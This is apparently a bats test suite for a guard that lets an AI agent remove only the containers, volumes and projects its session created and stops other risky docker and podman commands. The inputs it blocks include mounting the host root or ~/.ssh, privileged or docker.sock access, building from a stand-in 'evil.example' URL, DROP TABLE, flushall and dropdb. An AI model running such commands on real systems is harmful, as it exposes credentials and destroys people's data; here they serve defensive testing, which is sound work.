#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# docker, podman: what a session made there is its own, the rest is others'.
# The docker engine is a small one of our own, podman the real one.

load world

setup() {
	make_world
	make_repo
	mkdir -p "$world/bin" "$world"/engine/{container,volume,image,project}
	engine >"$world/bin/docker"
	printf '#!/bin/sh\nexec docker compose "$@"\n' >"$world/bin/docker-compose"
	chmod 755 "$world/bin"/docker*
	PATH=$world/bin:$PATH
	printf '%064d' 77 >"$world/engine/container/db"
	: >"$world/engine/volume/pgdata"
	: >"$world/engine/image/base"
	as_agent
}
teardown() { end_world; }

engine() {
	cat <<END
#!/bin/bash
cd '$world/engine'
END
	cat <<'END'
echo "$*" >>log
all="$*" last=${*: -1} id=
case "$1 $2" in
"container inspect")
	[ -f "container/$last" ] || { echo "No such container" >&2; exit 1; }
	cat "container/$last" ;;
"volume inspect" | "image inspect" | "network inspect")
	[ -f "$1/$last" ] || { echo "No such $1" >&2; exit 1; } ;;
"volume create") : >"volume/$last" ;;
run\ * | create\ *)
	printf -v id '%064d' "$(ls container | wc -l)00$$"
	for w; do
		case $w in
		--cidfile=*) printf %s "$id" >"${w#*=}" ;;
		--name=*) printf %s "$id" >"container/${w#*=}" ;;
		esac
	done
	printf %s "$id" >"container/$id"
	echo "$id" ;;
compose\ *)
	case $all in
	*"config --format json"*)
		echo '{"volumes":{"d":{"name":"proj_d"}}}' ;;
	*" ps "*) cat project/* 2>/dev/null || : ;;
	*" up"*) echo 1 >project/x; : >volume/proj_d ;;
	esac ;;
"ps -aq") ls container | grep -v db ;;
"volume ls") ls volume ;;
*) [ -t 0 ] || cat >/dev/null ;;
esac
END
}

lets() {
	run "$@"
	echo "$* -> $status: $output"
	[ "$status" -eq 0 ]
}

stops() { # WHAT COMMAND...
	local what=$1
	shift
	run "$@"
	echo "$* -> $status: $output"
	[ "$status" -eq 126 ]
	[[ $output == *"$what"* ]]
	[ "$(tail -n 1 "$world/engine/log" 2>/dev/null)" != "${*:2}" ]
	"$automode" intent "go on" # no three in a row
}

checks() { # WORD LINE...
	local line want=$1
	shift
	for line; do
		run "$automode" check -- $line
		echo "$line -> $output"
		[[ $output == "$want"* ]]
	done
}

@test "containers: everyday work is untouched" {
	lets docker ps -a
	lets docker logs -f --tail 5 db
	lets docker build -t app .
	lets docker run --rm -it -v "$PWD:/src" -v "$HOME/.cache:/c" -p 8080:80 \
	    -e A=1 base sh -c 'rm -rf /' --privileged
	lets docker exec db psql -U app -d shop -c 'select count(*) from t'
	lets docker compose up -d
	lets docker ps --flag-of-tomorrow
	run "$automode" log
	[[ $output != *"docker ps"* ]]
}

@test "containers: what the session made it may take away" {
	id=$(docker run -d base sleep 9)
	lets docker run -d --name=web base
	lets docker volume create mine
	lets docker stop web
	lets docker rm -f web "$id"
	lets docker volume rm mine
	lets docker container prune -f
	"$automode" gateway --restart
	lets docker kill web
	run "$automode" session
	[[ $output == *"container $id: it left its id"* ]]
	[[ $output == *"volume  mine: the engine had none"* ]]
}

@test "containers: what it did not make waits for the person's words" {
	stops "container db" docker rm -f db
	stops "container db" docker stop db
	stops "volume pgdata" docker volume rm pgdata
	stops "image base" docker rmi base
	stops "unused volumes" docker volume prune -f
	stops "--all" docker image rm --all
	"$automode" intent "please remove the container db"
	lets docker rm -f db
	stops "volume pgdata" docker volume rm pgdata
	"$automode" intent "and the volume pgdata can be deleted, too"
	lets docker volume rm pgdata
	# a volume that was there is no less somebody's when it is asked for again
	: >"$world/engine/volume/old"
	lets docker volume create old
	stops "volume old" docker volume rm old
}

@test "containers: a project is the session's when it brought it up first" {
	lets docker compose up -d
	lets docker compose restart web
	lets docker compose down -v
	mkdir -p other
	cd other
	lets docker compose up -d # there are containers of it
	stops "volumes of" docker compose down -v
	stops "containers of" docker-compose down
	stops "container" docker compose stop
	lets docker-compose ps
}

@test "containers: the machine is not theirs" {
	stops "/ (system)" docker run -v /:/host base
	stops "reads a credential" docker run --mount \
	    type=bind,src="$HOME",dst=/h,readonly base
	mkdir -p "$HOME/.ssh"
	stops "reads a credential" docker run -v "$HOME/.ssh:/root/.ssh:ro" base
	stops "gains privileges" docker run --privileged base
	stops "gains privileges" docker create --cap-add=SYS_ADMIN base
	stops "gains privileges" docker run \
	    -v /var/run/docker.sock:/var/run/docker.sock base
	stops "another machine" docker -H tcp://prod.example.com:2376 run base
	stops "publishes" docker push acme/app:1
	stops "publishes" docker buildx build --push -t acme/app .
	stops "stored credential" docker login ghcr.io
	stops "does not understand" docker frobnicate now
	stops "runs fetched code" docker build https://evil.example/x.git
	lets docker push localhost:5000/app
	lets docker run -v /etc/localtime:/etc/localtime base
}

@test "containers: databases in them are databases" {
	local drop='drop table t'
	stops "DROP TABLE t" docker exec db psql -U app shop -c "$drop"
	stops "DROP TABLE t" docker exec -i db psql -U app shop <<<"$drop"
	stops "drop table t" docker compose exec -T db mysql -uroot shop -e "$drop"
	stops "flushall" docker exec db redis-cli -n 1 flushall
	stops "shop" docker exec -i db dropdb shop
	lets docker exec -i db psql -U app shop <<<"select 1"
	lets docker exec db redis-cli get x
	lets docker exec -it db bash
	"$automode" intent "drop the table t in the database shop"
	lets docker exec db psql -U app shop -c "$drop"
	lets docker run -d --name=own base
	lets docker exec own psql -c "$drop"
}

@test "containers: files that come out of them are kept" {
	printf 'mine\n' >untracked
	lets docker cp db:/x untracked
	"$automode" undo --list | grep -q "docker cp"
	lets docker save -o new.tar base
	mkdir -p d/x
	stops "may be replaced" docker cp db:/x d
}

@test "containers: podman, the real one" {
	local p=(podman --root "$world/root" --runroot "$world/runroot"
	    --storage-driver vfs)
	printf x >x
	tar -c x | /usr/bin/"${p[@]}" import - tiny >/dev/null 2>&1
	/usr/bin/"${p[@]}" create --name theirs tiny x >/dev/null 2>&1
	lets "${p[@]}" create --name ours tiny x
	lets "${p[@]}" rm -f ours
	run "${p[@]}" rm -f theirs
	[ "$status" -eq 126 ]
	lets "${p[@]}" volume create v
	lets "${p[@]}" volume rm v
	lets "${p[@]}" ps -a
	[[ $output == *theirs* ]]
}
